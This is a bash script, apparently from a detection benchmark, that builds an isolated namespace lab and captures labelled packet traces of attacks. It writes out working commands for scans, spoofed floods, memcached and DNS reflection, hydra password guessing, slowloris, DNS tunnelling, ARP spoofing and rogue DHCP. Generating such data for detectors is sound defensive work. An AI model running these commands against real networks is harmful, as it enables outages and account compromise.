#!/usr/bin/env bash
# Attacks by real tools, each in a capture of its own, for `weir-bench attacks`.
#
# usage: sudo bench/attacks/make.sh [FOLDER [NAME...]]     some fifteen minutes; Linux, root
# needs: iproute2 tcpdump ethtool curl dnsutils dnsmasq openssh-server iputils-ping python3
#        vsftpd memcached busybox nftables nmap hping3 masscan hydra slowhttptest iodine dsniff
#        (tools that are missing are named, and their attacks left out)
#
#      a 192.0.2.1   ----+
#                        lan  r  ---- b 198.51.100.2 (web, ssh, dns, ftp), .3 (a tunnel's end),
#      e 192.0.2.66  ----+                .10 to .29 (web at port 8080, memcached),
#                                     198.51.100.8 (takes packets, never answers)
#
# a is an honest client, e the attacker, and r, 192.0.2.254, the router on whose bridge `lan` all
# is captured. FOLDER (bench/out/attacks by default) gets NAME.pcap for each attack, and
# attacks.jsonl: kind, tool, rate, attacker and victim of each. background.pcap is honest traffic.
# With names, only these are made again.
# Nothing leaves the namespaces; everything is bounded by count or time.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here/../out/attacks}
only=" ${*:2} "
mkdir -p "$out"
out=$(cd "$out" && pwd)
. "$here/../../fixtures/lab.sh"
# Some tools leave files where they stand.
cd "$work"

A=weir-attack-a E=weir-attack-e R=weir-attack-r B=weir-attack-b
namespaces=($A $E $R $B)
lab_begin
a() { timeout 60 ip netns exec $A "$@"; }
e() { timeout 60 ip netns exec $E "$@"; }
r() { timeout 60 ip netns exec $R "$@"; }
b() { timeout 60 ip netns exec $B "$@"; }

# ---------------------------------------------------------------- the network

ip link add eth0 netns $A address 02:00:00:00:00:01 type veth peer name port_a netns $R
ip link add eth0 netns $E address 02:00:00:00:00:66 type veth peer name port_e netns $R
ip link add eth0 netns $B address 02:00:00:00:00:02 type veth \
    peer name right netns $R address 02:00:00:00:00:0b
ip -n $R link add lan address 02:00:00:00:00:0a type bridge
ip -n $R link set port_a master lan
ip -n $R link set port_e master lan
for end in "$A eth0" "$E eth0" "$B eth0" "$R port_a" "$R port_e" "$R right"; do port $end; done
ip -n $R link set lan up
r sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
ip -n $A addr add 192.0.2.1/24 dev eth0
ip -n $E addr add 192.0.2.66/24 dev eth0
ip -n $R addr add 192.0.2.254/24 dev lan
ip -n $R addr add 198.51.100.254/24 dev right
ip -n $B addr add 198.51.100.2/24 dev eth0
ip -n $B addr add 198.51.100.3/24 dev eth0
for n in $(seq 10 29); do ip -n $B addr add "198.51.100.$n/24" dev eth0; done
ip -n $A route add default via 192.0.2.254
ip -n $E route add default via 192.0.2.254
ip -n $B route add default via 198.51.100.254
# Answers to invented addresses go to the client, which drops them: both sides are captured.
ip -n $R route add default via 192.0.2.1
a ping -q -c 1 -W 3 198.51.100.2 >/dev/null
e ping -q -c 1 -W 3 198.51.100.2 >/dev/null

# ---------------------------------------------------------------- the servers

mkdir "$work/www"
echo '<h1>It works.</h1>' >"$work/www/index.html"
seq 1 4000 >"$work/www/numbers.txt"
serve $B python3 -m http.server --bind 198.51.100.2 --directory "$work/www" 80
# The long text makes answers that amplify.
serve $B dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root \
    --pid-file="$work/dnsmasq.pid" --cache-size=0 --local=/test/ --local=/arpa/ \
    --listen-address=198.51.100.2 --bind-interfaces --edns-packet-max=4096 \
    --host-record=www.example.test,198.51.100.2 \
    $(for i in 1 2 3 4 5; do echo "--txt-record=big.example.test,$(printf 'x%.0s' {1..200})"; done)
ssh_keys host
cat >"$work/sshd_config" <<END
HostKey $work/host
PidFile $work/sshd.pid
StrictModes no
UsePAM no
PasswordAuthentication yes
MaxStartups 100
PrintMotd no
END
serve $B /usr/sbin/sshd -D -f "$work/sshd_config"
serve $B python3 -m http.server --bind 0.0.0.0 --directory "$work/www" 8080
# A page for which one has to log in.
mkdir "$work/private"
echo '<h1>Welcome.</h1>' >"$work/private/index.html"
printf '/:root:%s\n' "$(head -c 30 /dev/urandom | base64)" >"$work/httpd.conf"
serve $B busybox httpd -f -p 198.51.100.2:8081 -h "$work/private" -c "$work/httpd.conf"
cat >"$work/vsftpd.conf" <<END
listen=YES
listen_address=198.51.100.2
background=NO
anonymous_enable=NO
local_enable=YES
secure_chroot_dir=$work/www
seccomp_sandbox=NO
END
serve $B vsftpd "$work/vsftpd.conf"
serve $B iodined -f -c -P weir -l 198.51.100.3 10.9.0.1 t.example.test
serve $B memcached -u root -U 11211 -l 0.0.0.0
answers $B 198.51.100.2 21 22 53 80 8080 8081 11211

# ---------------------------------------------------------------- the attacks

# is_wanted NAME: whether it is to be made.
is_wanted() { [ "$only" = "  " ] || [[ $only = *" $1 "* ]]; }
if [ "$only" = "  " ]; then : >"$out/attacks.jsonl"; fi
touch "$out/attacks.jsonl"

# attack NAME KIND TOOL RATE ATTACKER VICTIM command...: captures one attack, with a little honest
# traffic around it.
attack() {
    local name=$1 kind=$2 tool=$3 rate=$4 attacker=$5 victim=$6; shift 6
    is_wanted "$name" || return 0
    sed -i "/^{\"name\":\"$name\",/d" "$out/attacks.jsonl"
    if ! command -v "$tool" >/dev/null; then
        echo "left out: $name, for $tool is not here" >&2
        return
    fi
    # A neighbour that never answers at the layer above: frames to it are taken, and dropped.
    ip -n $R neigh replace 198.51.100.8 lladdr 02:00:00:00:00:02 dev right nud permanent
    echo "$name" >&2
    capture "$out/$name.pcap" $R -i lan
    "$@" >"$work/$name.out" 2>&1 || true
    stop
    printf '{"name":"%s","kind":"%s","tool":"%s","rate":"%s","attacker":"%s","victim":"%s"}\n' \
        "$name" "$kind" "$tool" "$rate" "$attacker" "$victim" >>"$out/attacks.jsonl"
}

honest() {
    for _ in $(seq "$1"); do
        a curl -s --max-time 10 http://198.51.100.2/ http://198.51.100.2/numbers.txt >/dev/null
        a dig +tries=1 +time=2 @198.51.100.2 www.example.test >/dev/null
        a ping -q -c 2 -i 0.2 198.51.100.2 >/dev/null
        sleep 0.3
    done
}
if is_wanted background; then
    echo background >&2
    capture "$out/background.pcap" $R -i lan
    honest 60
    stop
fi

me=192.0.2.66 server=198.51.100.2 silent=198.51.100.8
scan() { e nmap -n -Pn --max-retries 0 "$@"; }
attack scan_syn port_scan nmap "as fast as it goes" $me $server scan -sS -p 1-1000 $server
attack scan_syn_20 port_scan nmap 20/s $me $server scan -sS -p 1-400 --max-rate 20 $server
attack scan_syn_2 port_scan nmap 2/s $me $server scan -sS -p 1-100 --max-rate 2 $server
attack scan_syn_12 port_scan nmap 12/s $me $server scan -sS -p 1-400 --max-rate 12 $server
attack scan_fin port_scan nmap "as fast as it goes" $me $server scan -sF -p 1-1000 $server
attack scan_null port_scan nmap "as fast as it goes" $me $server scan -sN -p 1-1000 $server
attack scan_xmas port_scan nmap "as fast as it goes" $me $server scan -sX -p 1-1000 $server
attack scan_fragments port_scan nmap "as fast as it goes" $me $server scan -sS -f -p 1-1000 $server
attack scan_ack ack_scan nmap "as fast as it goes" $me $server scan -sA -p 1-1000 $server
attack scan_connect port_scan nmap "as fast as it goes" $me $server scan -sT -p 1-1000 $server
attack scan_udp udp_scan nmap 50/s $me $server scan -sU -p 1-500 --max-rate 50 $server
attack sweep_80 host_scan nmap 50/s $me - scan -sS -p 80 --max-rate 50 198.51.100.0/24
attack sweep_22_5 host_scan nmap 5/s $me - scan -sS -p 22 --max-rate 5 198.51.100.0/25
attack sweep_ping icmp_sweep nmap 50/s $me - \
    e nmap -n -sn -PE --max-retries 0 --max-rate 50 198.51.100.0/24
attack sweep_snmp udp_sweep nmap 50/s $me - scan -sU -p 161 --max-rate 50 198.51.100.0/24
attack masscan_telnet host_scan masscan 100/s $me - \
    e masscan 198.51.100.0/25 -p23,2323 --rate 100 --wait 1 --interface eth0 \
    --source-ip $me --router-mac 02-00-00-00-00-0a

flood() { e hping3 -q -n "$@"; }
attack flood_syn_1000 syn_flood hping3 1000/s spoofed $server \
    flood -S --rand-source -p 80 -i u1000 -c 10000 $server
attack flood_syn_100 syn_flood hping3 100/s spoofed $server \
    flood -S --rand-source -p 80 -i u10000 -c 3000 $server
attack flood_syn_silent syn_flood hping3 500/s spoofed $silent \
    flood -S --rand-source -p 443 -i u2000 -c 8000 $silent
attack flood_syn_one syn_flood hping3 500/s $me $silent flood -S -p 443 -i u2000 -c 8000 $silent
attack flood_udp udp_flood hping3 1000/s $me $silent flood --udp -d 200 -p 9999 -i u1000 -c 10000 $silent
attack flood_icmp icmp_flood hping3 1000/s $me $server flood --icmp -d 56 -i u1000 -c 10000 $server
attack flood_unreachable icmp_unreachable_flood hping3 1000/s $me $silent \
    flood --icmp -C 3 -K 3 -i u1000 -c 10000 $silent
attack flood_udp_fast udp_flood hping3 "as fast as it goes" $me $silent \
    flood --udp -d 20 -p 9999 --flood -c 400000 $silent
attack flood_icmp_fast icmp_flood hping3 "as fast as it goes" $me $silent \
    flood --icmp -d 20 --flood -c 400000 $silent

# SYNs to all hosts of a network, from everywhere.
attack flood_carpet carpet_flood hping3 1000/s spoofed 198.51.100.0 \
    flood -S --rand-source --rand-dest -I eth0 -p 80 -i u1000 -c 10000 198.51.100.x
# SYNs as if the client had sent them to twenty servers, which the client does not see.
reflect_syns() {
    local n all=()
    for n in $(seq 10 29); do
        r hping3 -q -n -S -a 192.0.2.1 -p 8080 -i u10000 -c 50 "198.51.100.$n" &
        all+=($!)
    done
    wait "${all[@]}" || true
    sleep 2
}
attack reflection_syn syn_ack_reflection hping3 1000/s 198.51.100.10 192.0.2.1 reflect_syns
# The request for the counts of memcached, by UDP.
printf '\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n' >"$work/stats"
attack reflection_memcached udp_reflection hping3 200/s 198.51.100.10 192.0.2.1 \
    r hping3 -q -n --udp -a 192.0.2.1 -p 11211 -d "$(stat -c %s "$work/stats")" \
    --file "$work/stats" -i u5000 -c 3000 198.51.100.10

# A question for a long text, as if the client had asked it; the answers are the server's own.
printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x04test\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' >"$work/question"
attack reflection_dns dns_reflection hping3 200/s 198.51.100.2 192.0.2.1 \
    r hping3 -q -n --udp -a 192.0.2.1 -p 53 -d "$(stat -c %s "$work/question")" \
    --file "$work/question" -i u5000 -c 3000 198.51.100.2

for i in $(seq 400); do echo "password$i"; done >"$work/passwords"
attack brute_ssh ssh_brute_force hydra "16 at a time" $me $server \
    e hydra -q -I -t 16 -l root -P "$work/passwords" ssh://$server
attack guess_ftp login_guessing hydra "16 at a time" $me $server \
    e hydra -q -I -t 16 -l root -P "$work/passwords" ftp://$server
attack guess_http http_guessing hydra "16 at a time" $me $server \
    e hydra -q -I -t 16 -l root -P "$work/passwords" -s 8081 $server http-get /
attack slow_headers slowloris slowhttptest "50 connections/s" $me $server \
    e slowhttptest -c 100 -H -i 10 -r 50 -l 45 -u http://$server/ -p 5
# tunnel OPTIONS command...: runs a command while a tunnel is up, whose client ends with it.
tunnel() {
    local options=$1 client; shift
    # shellcheck disable=SC2086
    timeout 90 ip netns exec $E iodine -f -r $options -P weir 198.51.100.3 t.example.test &
    client=$!
    sleep 6
    "$@"
    kill "$client" && wait "$client" || true
}
attack tunnel_iodine dns_tunnel iodine "3 KB/s" $me 198.51.100.3 \
    tunnel "" e ping -q -c 60 -i 0.3 -s 400 10.9.0.1

# The end that is called sends a file to the one that calls, in TXT records.
download() {
    for _ in $(seq 8); do e curl -s http://10.9.0.1:8080/numbers.txt >/dev/null || true; done
}
attack tunnel_download dns_download iodine "some KB/s" $me 198.51.100.3 tunnel "-T TXT" download
# Questions as dnscat2 asks them: two labels of hexadecimal digits, for several kinds of records.
hexadecimal() { head -c 30 /dev/urandom | od -An -v -tx1 | tr -d ' \n'; }
ask_in_hexadecimal() {
    local kind
    for _ in $(seq 100); do
        for kind in TXT CNAME MX; do
            e dig +tries=1 +time=1 @$server "$(hexadecimal).$(hexadecimal).example.test" $kind >/dev/null
        done
    done
}
attack tunnel_hexadecimal dns_tunnel dig "as fast as it goes" $me $server ask_in_hexadecimal

# One in ten segments of the web server is lost on its way to the capture.
lossy() {
    r nft 'table inet lossy { chain forward { type filter hook forward priority 0;
        ip saddr 198.51.100.2 tcp sport 80 numgen random mod 100 < 10 drop; }; }'
    honest 30
    r nft delete table inet lossy
}
attack loss_tcp tcp_loss nft "1 segment in 10" - $server lossy

spoof() {
    e timeout 15 arpspoof -i eth0 -t 192.0.2.1 192.0.2.254 &
    honest 12
    wait $! || true
}
attack spoof_arp arp_spoof arpspoof 0.5/s $me 192.0.2.254 spoof
rogue() {
    serve $R dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --user=root \
        --pid-file="$work/dhcp-r.pid" --dhcp-leasefile="$work/leases-r" --interface=lan \
        --dhcp-range=192.0.2.100,192.0.2.120,1h
    serve $E dnsmasq --keep-in-foreground --conf-file=/dev/null --port=0 --user=root \
        --pid-file="$work/dhcp-e.pid" --dhcp-leasefile="$work/leases-e" --interface=eth0 \
        --dhcp-range=192.0.2.200,192.0.2.220,1h
    sleep 2
    for _ in 1 2 3; do a busybox udhcpc -i eth0 -n -q -f -s /bin/true -t 3 -T 1 || true; done
}
attack rogue_dhcp rogue_dhcp busybox "3 requests" $me 192.0.2.1 rogue

ls -l "$out"/*.pcap >&2
